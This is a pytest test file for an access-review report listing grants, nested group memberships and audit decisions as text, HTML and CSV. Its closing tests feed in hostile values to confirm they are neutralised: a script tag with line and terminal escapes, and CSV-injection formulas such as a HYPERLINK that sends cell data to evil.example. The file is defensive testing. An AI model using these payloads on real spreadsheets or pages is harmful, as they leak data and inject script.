"""The access review against real grants, groups and decisions: as a list, and as CSV."""

import csv
import io
import random
import tracemalloc
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.audit.trail import Entry, Outcome, record
from app.database.pool import DatabasePool
from app.database.review_statements import LAST_DECISIONS
from app.reports.access import COLUMNS, Access
from app.reports.csv_text import CsvWriter
from app.reports.listing import Listing
from app.reports.report import Limits, Report, make_report

NOON = datetime(2026, 11, 23, 12, tzinfo=UTC)


@dataclass
class Made:
    """A report, and what it gave away while it was made."""

    parts: list[bytes] = field(default_factory=list)
    progress: list[tuple[int, int]] = field(default_factory=list)

    async def of(
        self, pool: DatabasePool, subject: str | None = None, limits: Limits | None = None
    ) -> Report:
        async def keep(part: bytes) -> None:
            self.parts.append(part)

        async def tell(done: int, total: int) -> None:
            self.progress.append((done, total))

        report = await make_report(pool, subject, keep, tell, limits)
        self.parts.append(report.last_part)
        return report

    def rows(self) -> list[list[str]]:
        head, *rows = csv.reader(io.StringIO(b"".join(self.parts).decode(), newline=""))
        assert tuple(head) == COLUMNS
        return rows


async def grant(pool: DatabasePool, grants: Sequence[tuple[str, str, str]]) -> None:
    async with pool.acquire() as connection:
        await connection.executemany("INSERT INTO grants VALUES ($1, $2, $3, 'root')", grants)


async def test_it_says_who_can_do_what_and_who_granted_it(pool: DatabasePool) -> None:
    await grant(pool, [("bob", "doc:2", "write"), ("alice", "doc:1", "read")])
    made = Made()
    report = await made.of(pool)
    today = f"{datetime.now(UTC):%Y-%m-%d}"
    head, _, *lines, _, tail, reading = report.text.splitlines()
    assert head.startswith("Access of all users, as of 20")
    assert lines == [
        f"alice: read on doc:1 (granted by root, {today})",
        f"bob: write on doc:2 (granted by root, {today})",
    ]
    assert tail == "2 grants listed, which is all."
    assert "beneath its resource" in reading
    assert (
        f"<tr><td>alice</td><td>read</td><td>doc:1</td><td></td><td></td><td>root</td><td>{today}"
        in (report.html)
    )
    assert made.rows() == [
        ["alice", "read", "doc:1", "", "", "root", today, "", "", "", ""],
        ["bob", "write", "doc:2", "", "", "root", today, "", "", "", ""],
    ]
    assert report.rows == 2
    assert made.progress == []


@pytest.fixture
async def groups(pool: DatabasePool) -> None:
    """`bob` is in `ops`, which is in `staff`, which is in `ops`; `eve` is in `staff` alone."""
    async with pool.acquire() as connection:
        await connection.execute(
            """
            INSERT INTO group_members (group_id, user_id, member_group_id, added_by) VALUES
                ('ops', 'bob', NULL, 'root'), ('staff', 'eve', NULL, 'root'),
                ('staff', NULL, 'ops', 'root'), ('ops', NULL, 'staff', 'root');
            INSERT INTO grants (group_id, resource, action, granted_by) VALUES
                ('ops', 'door', 'open', 'chief'), ('staff', 'wiki', 'read', 'root');
            INSERT INTO grants (user_id, resource, action, granted_by)
                VALUES ('bob', 'door', 'open', 'root');
            """
        )


@pytest.mark.usefixtures("groups")
async def test_what_groups_hold_is_their_members_however_deep(pool: DatabasePool) -> None:
    made = Made()
    report = await made.of(pool)
    assert [row[:6] for row in made.rows()] == [
        ["bob", "open", "door", "", "", "root"],
        ["bob", "open", "door", "ops", "", "chief"],
        ["bob", "read", "wiki", "staff", "ops > staff", "root"],
        ["eve", "open", "door", "ops", "staff > ops", "chief"],
        ["eve", "read", "wiki", "staff", "", "root"],
    ]
    assert "bob: read on wiki through group staff (ops > staff) (granted by root" in report.text
    assert "eve: read on wiki through group staff (granted by root" in report.text


@pytest.mark.usefixtures("groups")
async def test_it_can_be_about_one_user(pool: DatabasePool) -> None:
    await grant(pool, [("eve2", "doc:1", "read")])
    made = Made()
    report = await made.of(pool, "eve")
    assert {row[0] for row in made.rows()} == {"eve"}
    assert report.rows == 2
    assert "Access of user eve, as of" in report.text
    assert (await made.of(pool, "nobody")).rows == 0


async def test_the_last_decision_on_record_stands_beside_the_access(pool: DatabasePool) -> None:
    await grant(pool, [("bob", "door", "open"), ("bob", "door", "shut"), ("eve", "door", "open")])
    asked = {"user": "bob", "action": "open"}
    async with pool.transaction() as connection:
        await record(
            connection,
            Entry("gate", "permission.check", "door", Outcome.DENY, asked),
            Entry("gate", "permission.check", "door", Outcome.ALLOW, asked),
            Entry("gate", "grant.add", "door", Outcome.DONE, {"user": "eve", "action": "open"}),
        )
    made = Made()
    report = await made.of(pool)
    today = f"{datetime.now(UTC):%Y-%m-%d}"
    assert [row[7:9] for row in made.rows()] == [["allowed", today], ["", ""], ["", ""]]
    assert f"; last decision: allowed, {today})" in report.text


async def test_a_decision_stands_there_however_many_came_after_it(pool: DatabasePool) -> None:
    await grant(pool, [("bob", "door", "open"), ("eve", "door", "open")])
    about_bob, about_eve = (
        Entry("gate", "decision", "door", outcome, {"user": user, "action": "open"})
        for user, outcome in (("bob", Outcome.ALLOW), ("eve", Outcome.DENY))
    )
    async with pool.transaction() as connection:
        await record(connection, about_bob, *[about_eve] * 1_000)
    made = Made()
    await made.of(pool)
    assert [(row[0], row[7]) for row in made.rows()] == [("bob", "allowed"), ("eve", "denied")]


async def test_a_decision_is_found_by_its_index(pool: DatabasePool) -> None:
    asked = {"user": "bob", "action": "open"}
    others = (
        Entry("gate", "decision", "door", Outcome.DENY, {"user": f"u{n}", "action": "open"})
        for n in range(2_000)
    )
    async with pool.transaction() as connection:
        await record(connection, Entry("gate", "decision", "door", Outcome.ALLOW, asked), *others)
        for mode in ("force_custom_plan", "force_generic_plan"):
            await connection.execute(f"SET LOCAL plan_cache_mode = {mode}")
            plan = await connection.fetch(f"EXPLAIN {LAST_DECISIONS}", ["bob"], ["door"], ["open"])
            assert any("audit_entries_decision" in line[0] for line in plan), plan


async def test_the_longest_names_have_room_in_the_index(pool: DatabasePool) -> None:
    # Random, so that no compression makes them shorter: 1,024 bytes of AuthZEN's type and ID.
    chosen = random.Random(1)  # noqa: S311  # no secret
    user, action, resource = (
        "".join(map(chr, chosen.choices(range(0x20000, 0x2A000), k=length)))
        for length in (192, 192, 256)
    )
    asked = {"user": user, "action": action}
    async with pool.transaction() as connection:
        await record(connection, Entry("gate", "decision", resource, Outcome.DENY, asked))
        rows = await connection.fetch(LAST_DECISIONS, [user], [resource], [action])
    assert [row["outcome"] for row in rows] == ["deny"]


async def test_all_of_it_is_of_one_moment(pool: DatabasePool) -> None:
    await grant(pool, [("u", f"doc:{n}", "read") for n in range(4)])

    async def meddle(_: bytes) -> None:
        asked = {"user": "u", "action": "read"}
        async with pool.transaction() as connection:
            await record(connection, Entry("gate", "check", "doc:3", Outcome.DENY, asked))
            await connection.execute("DELETE FROM grants WHERE resource = 'doc:3'")

    async def pass_over(_: int, __: int) -> None:
        """Say nothing."""

    report = await make_report(pool, None, meddle, pass_over, Limits(page=2, part_bytes=10))
    assert report.rows == 4
    assert "u: read on doc:3" in report.text
    assert "decision" not in report.text


@pytest.mark.parametrize("count", [0, 1, 3, 6, 7])
async def test_pages_and_parts_neither_lose_nor_repeat_a_row(
    pool: DatabasePool, count: int
) -> None:
    await grant(pool, [(f"u{n % 2}", f"doc:{n}", action) for n in range(count) for action in "rw"])
    made = Made()
    report = await made.of(pool, limits=Limits(page=3, part_bytes=100))
    rows = made.rows()
    assert len(rows) == len({tuple(row) for row in rows}) == report.rows == 2 * count
    assert len(made.parts) >= 2 * count // 3
    if count > 1:
        assert made.progress[-1] == (2 * count, 2 * count)
        assert made.progress == sorted(made.progress)


@pytest.mark.parametrize("most", [4, 5, 6])
async def test_a_long_list_is_cut_says_so_and_the_csv_is_whole(
    pool: DatabasePool, most: int
) -> None:
    await grant(pool, [("u", f"doc:{n}", "read") for n in range(6)])
    made = Made()
    report = await made.of(pool, limits=Limits(listed=most, page=2))
    assert report.text.count(" on doc:") == report.html.count("<td>doc:") == most
    cut = "of 6 grants listed; the CSV has them all"
    assert (cut in report.text) is (cut in report.html) is (most < 6)
    assert len(made.rows()) == 6


async def test_a_large_report_needs_no_more_memory_than_a_small_one(pool: DatabasePool) -> None:
    sizes = {}
    for rows in (3_000, 30_000):
        async with pool.acquire() as connection:
            await connection.execute(
                "INSERT INTO grants SELECT 'u' || n, 'doc', 'read', 'root'"
                " FROM generate_series(1, $1::int) AS n ON CONFLICT DO NOTHING",
                rows,
            )
        kept = 0

        async def count(part: bytes) -> None:
            nonlocal kept
            kept += len(part)

        async def pass_over(_: int, __: int) -> None:
            """Say nothing."""

        keep: Callable[[bytes], Awaitable[None]] = count
        tracemalloc.start()
        report = await make_report(pool, None, keep, pass_over)
        sizes[rows] = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert report.rows == rows
    assert kept > 1_000_000
    assert sizes[30_000] < 1.5 * sizes[3_000] + kept / 4


HOSTILE = "<script>alert('x')</script>\r\nroot: all on everything\x1b[2J\u202e"


def test_names_can_bend_neither_the_html_nor_the_lines() -> None:
    listing = Listing(NOON, HOSTILE, most=10)
    listing.add(Access(HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE, NOON))
    assert "<script" not in listing.html()
    assert "&lt;script&gt;" in listing.html()
    assert len(listing.text().splitlines()) == 6
    assert not set("\r\x1b\u202e") & set(listing.text() + listing.html())


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1",
        "-2+3",
        "@SUM(1)",
        "\uff1d1+1",
        "  =1",
        "\t=1",
        "\r=1",
    ],
)
def test_no_cell_of_the_csv_is_a_formula(name: str) -> None:
    writer = CsvWriter()
    writer.add(Access(name, name, name, name, name, NOON, path=(name, name)))
    _, row = csv.reader(io.StringIO(writer.take().decode(), newline=""))
    for cell in row[:6]:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
        assert cell.endswith(name.lstrip(" \t\r"))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), min_size=1), min_size=3))
def test_the_csv_reads_back_as_it_was_meant(names: list[str]) -> None:
    writer = CsvWriter()
    for name in names:
        writer.add(Access(name, name, name, "", name, NOON))
    raw = writer.take()
    assert raw.endswith(b"\r\n")
    _, *rows = csv.reader(io.StringIO(raw.decode(), newline=""), strict=True)
    assert [row[0].removeprefix("'") for row in rows] == [
        Access(name, "", "", "", "", NOON).cells()[0].removeprefix("'") for name in names
    ]
    assert writer.take() == b""
